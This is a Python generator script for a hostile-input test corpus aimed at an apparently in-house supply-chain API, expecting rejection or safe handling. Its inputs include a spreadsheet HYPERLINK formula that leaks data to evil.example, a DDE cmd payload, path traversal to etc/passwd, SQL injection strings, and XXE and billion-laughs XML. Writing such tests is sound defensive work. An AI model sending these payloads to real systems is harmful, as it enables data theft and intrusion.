#!/usr/bin/env python3
"""Writes cases.jsonl, the hostile-input corpus that ReliabilityIT sends through the gateway.

    python3 e2e-tests/src/test/resources/hostile/generate.py

Each case: id, category, method, path, key (role whose key is sent), contentType (null: no header),
body (text), or repeat {head, unit, times, tail} for bodies too large to store, headers, and expect:
  "4xx"     a 4xx problem+json; nothing stored
  "safe"    2xx or 4xx (a search for SQL-looking text may legitimately find nothing)
  "batch"   200 with an error record per bad order and a final summary (the batch contract)
Deterministic: run it again and the file is the same.
"""
import copy
import json
import os

SUPPLIER = {"externalId": "H-SUP-1", "name": "Hostile Probe GmbH", "country": "DE"}
PART = {"partNumber": "H-PART-1", "description": "Hostile probe part",
        "composition": [{"material": "ND", "form": "MAGNET", "massKgPerUnit": 0.2}]}
DECLARATION = {"supplier": "V-10042", "material": "ND", "stage": "REFINING", "shares": {"MY": 1.0},
               "validFrom": "2025-01-01"}
ORDER = {"poNumber": "PO-HOSTILE-1", "buyerCountry": "DE", "currency": "EUR",
         "lines": [{"lineNumber": 10, "partNumber": "MAG-ROTOR-48", "quantity": 10, "unitPrice": "12.40"}]}
SCENARIO = {"orders": [ORDER], "scenario": {"name": "Hostile what-if", "controls": [
    {"id": "WHATIF-H", "issuer": "CN", "measure": "BAN", "materials": ["DY"], "forms": ["MAGNET"],
     "effectiveFrom": "2027-01-01"}]}}
BOM = {"buyerCountry": "DE", "lines": [{"lineNumber": 10, "quantity": 1, "material": "ND", "form": "OXIDE",
                                        "massKgPerUnit": 1}]}
CONTROL = {"id": "H-CN-2026-07", "issuer": "CN", "instrument": "Hostile instrument", "title": "Hostile control",
           "measure": "BAN", "direction": "EXPORT", "materials": ["DY"], "forms": ["MAGNET"],
           "targetCountries": ["DE"], "endUse": "ANY", "effectiveFrom": "2027-01-01", "sourceId": "COMPILED-ESTIMATE"}

# path, method, key, template, text fields, numeric fields (> 0), enum/code fields, required fields
TARGETS = [
    ("/api/v1/suppliers", "POST", "editor", SUPPLIER, ["externalId", "name"], [], ["country"], ["externalId", "country"]),
    ("/api/v1/parts", "POST", "editor", PART, ["partNumber", "description"],
     ["composition.0.massKgPerUnit"], ["composition.0.form", "composition.0.material"], ["partNumber", "composition"]),
    ("/api/v1/declarations", "POST", "editor", DECLARATION, ["supplier"], ["shares.MY"], ["stage", "validFrom"],
     ["supplier", "stage"]),
    ("/api/v1/suppliers:bulk", "PUT", "editor", [SUPPLIER], ["0.name"], [], ["0.country"], ["0.name", "0.country"]),
    ("/api/v1/parts:bulk", "PUT", "editor", [PART], ["0.description"], ["0.composition.0.massKgPerUnit"],
     ["0.composition.0.form"], ["0.partNumber", "0.composition.0.form"]),
    ("/api/v1/export-controls", "POST", "admin", CONTROL, ["title", "instrument"], [], ["measure", "direction"],
     ["title", "measure"]),
    ("/api/v1/scores", "POST", "reader", ORDER, ["poNumber", "lines.0.partNumber"],
     ["lines.0.quantity", "lines.0.lineNumber"], ["buyerCountry", "currency"], ["poNumber", "buyerCountry"]),
    ("/api/v1/portfolio", "POST", "reader", {"orders": [ORDER]}, ["orders.0.poNumber"],
     ["orders.0.lines.0.quantity"], ["orders.0.currency"], ["orders.0.currency", "orders.0.lines"]),
    ("/api/v1/scenarios:evaluate", "POST", "reader", SCENARIO, ["scenario.name"], ["orders.0.lines.0.quantity"],
     ["scenario.controls.0.measure"], ["scenario", "scenario.controls.0.effectiveFrom"]),
    ("/api/v1/bom-checks", "POST", "reader", BOM, [], ["lines.0.quantity", "lines.0.massKgPerUnit"],
     ["buyerCountry"], ["buyerCountry", "lines.0.quantity"]),
]

cases = []


def add(category, method, path, key, body=None, content_type="application/json", expect="4xx", headers=None,
        repeat=None):
    case = {"id": f"{len(cases) + 1:03d}-{category}", "category": category, "method": method, "path": path,
            "key": key, "contentType": content_type, "expect": expect}
    if body is not None:
        case["body"] = body
    if repeat is not None:
        case["repeat"] = repeat
    if headers:
        case["headers"] = headers
    cases.append(case)


def setp(doc, dotted, value):
    doc = copy.deepcopy(doc)
    node = doc
    parts = dotted.split(".")
    for p in parts[:-1]:
        node = node[int(p)] if isinstance(node, list) else node[p]
    last = parts[-1]
    if isinstance(node, list):
        node[int(last)] = value
    else:
        node[last] = value
    return doc


def delp(doc, dotted):
    doc = copy.deepcopy(doc)
    node = doc
    parts = dotted.split(".")
    for p in parts[:-1]:
        node = node[int(p)] if isinstance(node, list) else node[p]
    del node[parts[-1]]
    return doc


def dumps(doc):
    return json.dumps(doc, ensure_ascii=False)


for path, method, key, template, texts, numbers, codes, required in TARGETS:
    valid = dumps(template)
    add("truncated-json", method, path, key, valid[: len(valid) // 2])
    add("invalid-json", method, path, key, valid.replace(":", " ", 1))
    add("trailing-garbage", method, path, key, valid + " }{")
    add("empty-body", method, path, key, "")
    add("null-body", method, path, key, "null")
    add("wrong-root-type", method, path, key, "{}" if isinstance(template, list) else "[]")
    add("string-root", method, path, key, '"just a string"')
    first = (template[0] if isinstance(template, list) else template)
    first_key = next(iter(first))
    if isinstance(template, list):
        dup = dumps(template)[:-2] + f', "{first_key}": {json.dumps(first[first_key])}' + "}]"
    else:
        dup = valid[:-1] + f', "{first_key}": {json.dumps(first[first_key])}' + "}"
    add("duplicate-key", method, path, key, dup)
    add("unknown-field", method, path, key, dumps(setp(template, "0.sneaky" if isinstance(template, list) else "sneaky", True)))
    add("deep-nesting", method, path, key, valid[:-1] + ', "deep": ' + "[" * 5000 + "]" * 5000 + "}"
        if not isinstance(template, list) else "[" * 5000 + "]" * 5000)
    for ct in ["text/plain", "application/xml", "application/x-www-form-urlencoded", None]:
        add("wrong-content-type", method, path, key, valid, content_type=ct)
    for field in texts:
        add("wrong-type", method, path, key, dumps(setp(template, field, 12345)))
        add("wrong-type", method, path, key, dumps(setp(template, field, {"nested": "object"})))
        for formula in ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1,2)", "@SUM(A1:A9)",
                        "-2+3+cmd|' /C calc'!A0", "\t=1+1"]:
            add("csv-injection", method, path, key, dumps(setp(template, field, formula)))
        add("unicode-lone-surrogate", method, path, key, dumps(setp(template, field, "probe")).replace("probe", "pro\\ud800be"))
        add("unicode-nul", method, path, key, dumps(setp(template, field, "pro\u0000be")))
        add("unicode-control", method, path, key, dumps(setp(template, field, "pro\u001bbe")))
        add("overlong-text", method, path, key, dumps(setp(template, field, "x" * 5000)))
    if texts:
        field = texts[0]
        head = dumps(setp(template, field, "@@CUT@@")).split("@@CUT@@")
        add("ten-megabyte-string", method, path, key, None,
            repeat={"head": head[0], "unit": "A", "times": 10 * 1024 * 1024 + 1, "tail": head[1]})
    for field in numbers:
        head, tail = dumps(setp(template, field, 7.77e-7)).split("7.77e-07")
        for literal in ["NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1" * 40, "-1", "0", "\"abc\"", "true",
                        "[1]", "0x10"]:
            add("bad-number", method, path, key, head + literal + tail)
    for field in codes:
        for value in ["NOT_A_VALUE", "", "de", "🇩🇪", "' OR '1'='1", 42]:
            add("bad-code-or-enum", method, path, key, dumps(setp(template, field, value)))
    for field in required:
        add("missing-required", method, path, key, dumps(delp(template, field)))

head, tail = dumps(setp(ORDER, "lines.0.unitPrice", 7.77e-7)).split("7.77e-07")
for literal in ["NaN", "Infinity", "1e400", "1" * 40, "-1", "-0.01", "\"abc\"", "true", "[1]"]:
    add("bad-number", "POST", "/api/v1/scores", "reader", head + literal + tail)

# ids with path traversal and junk, on every registry resource
for resource in ["suppliers", "parts", "declarations"]:
    for junk in ["..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%252f..%252fsnapshot", "%00",
                 "..;", "A" * 3000, "1%20OR%201=1", "%27%3B%20DROP%20TABLE%20supplier%3B--"]:
        add("path-traversal-or-junk-id", "GET", f"/api/v1/{resource}/{junk}", "reader", content_type=None)
    add("path-traversal-or-junk-id", "PUT", f"/api/v1/{resource}/..%2F..%2Fsnapshot", "editor", "{}",
        headers={"If-Match": "\"1\""})
    add("path-traversal-or-junk-id", "DELETE", f"/api/v1/{resource}/..%2Fmaterials", "editor", content_type=None,
        headers={"If-Match": "\"1\""})
for internal in ["/api/v1/snapshot", "/api/v1/%2e%2e/snapshot", "/api/v1/suppliers/../snapshot",
                 "/api/v1/suppliers/%2e%2e/snapshot", "/api/v1/..%2fsnapshot"]:
    add("internal-path", "GET", internal, "admin", content_type=None)

# SQL-looking and malformed filters
for query, expect in [("/api/v1/suppliers?country=DE%27%20OR%20%271%27%3D%271", "4xx"),
                      ("/api/v1/suppliers?q=%27%20OR%201%3D1%20--", "safe"),
                      ("/api/v1/suppliers?q=%25%27%3B%20DROP%20TABLE%20supplier%3B--", "safe"),
                      ("/api/v1/parts?q=%27%29%20UNION%20SELECT%20*%20FROM%20mysql.user--", "safe"),
                      ("/api/v1/parts?material=ND%27--", "safe"),
                      ("/api/v1/export-controls?inForceOn=2025-01-01%27%20OR%201%3D1", "4xx"),
                      ("/api/v1/export-controls?direction=SIDEWAYS", "4xx"),
                      ("/api/v1/country-shares?stage=MINING%27--", "4xx"),
                      ("/api/v1/declarations?stage=SMELTING", "4xx"),
                      ("/api/v1/suppliers?limit=-1", "4xx"),
                      ("/api/v1/suppliers?limit=1000000000", "4xx"),
                      ("/api/v1/suppliers?limit=1e3", "4xx"),
                      ("/api/v1/suppliers?cursor=%27%20OR%201%3D1", "4xx"),
                      ("/api/v1/parts?cursor=AAAA", "4xx"),
                      ("/api/v1/country-shares?year=99999999999", "4xx"),
                      ("/api/v1/scores?detail=everything", "4xx")]:
    add("sql-looking-or-bad-filter", "GET", query, "reader", content_type=None, expect=expect)

# XML attacks and broken BOMs
XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><MainDeclaration>&x;</MainDeclaration>'
LOL = ('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(8)) + ']><MainDeclaration>&i;</MainDeclaration>')
for body in [XXE, LOL,
             '<?xml version="1.0"?><!DOCTYPE d SYSTEM "http://127.0.0.1:9/evil.dtd"><MainDeclaration/>',
             '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]><MainDeclaration/>',
             "<MainDeclaration><Product>", "not xml at all", '<?xml version="1.0" encoding="UTF-7"?><a/>',
             "<MainDeclaration/>"]:
    for ct in ["application/xml", "text/xml"]:
        add("xml-attack-or-broken", "POST", "/api/v1/bom-checks?buyerCountry=DE", "reader", body, content_type=ct)
for body in ['lineNumber,quantity\n10,"unterminated\n', "lineNumber,quantity\n10,NaN\n", "lineNumber,quantity\n10,-5\n",
             "lineNumber,quantity\n10,0\n", "quantity\n1\n", "lineNumber,quantity,material,form,massKgPerUnit\n10,1,ND,PLASMA,1\n",
             "lineNumber,quantity\n99999999999,1\n", ""]:
    add("csv-bom-broken", "POST", "/api/v1/bom-checks?buyerCountry=DE", "reader", body, content_type="text/csv")
for body in ['{"bomFormat":"CycloneDX","specVersion":"1.6","version":"x"}', '{"bomFormat":"SPDX"}', "[]", "{"]:
    add("cyclonedx-broken", "POST", "/api/v1/bom-checks?buyerCountry=DE", "reader", body,
        content_type="application/vnd.cyclonedx+json")

# headers and URLs too large
add("oversized-header", "GET", "/api/v1/materials", "reader", content_type=None, headers={"X-Padding": "h" * 65536})
add("oversized-header", "GET", "/api/v1/materials", "reader", content_type=None,
    headers={f"X-Many-{i}": "v" * 200 for i in range(200)})
add("oversized-url", "GET", "/api/v1/suppliers?q=" + "u" * 20000, "reader", content_type=None)
add("oversized-body", "POST", "/api/v1/scores", "reader", None,
    repeat={"head": '{"poNumber":"', "unit": "B", "times": 11 * 1024 * 1024, "tail": '"}'})

# the NDJSON batch answers bad orders with error records, not with a 4xx for the whole stream
for body in ['{"poNumber":"x"}\nnot json\n{"truncated":', '{"poNumber":"PO-1","buyerCountry":"XX","currency":"EUR","lines":[]}\n',
             "\n\n\n", '{"a":' + "[" * 3000 + "]" * 3000 + "}\n"]:
    add("batch-bad-orders", "POST", "/api/v1/scores/batch", "reader", body, content_type="application/x-ndjson",
        expect="batch")

out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "cases.jsonl")
with open(out, "w", encoding="utf-8") as f:
    for c in cases:
        f.write(json.dumps(c, ensure_ascii=False) + "\n")
print(f"{len(cases)} cases written to {out}")
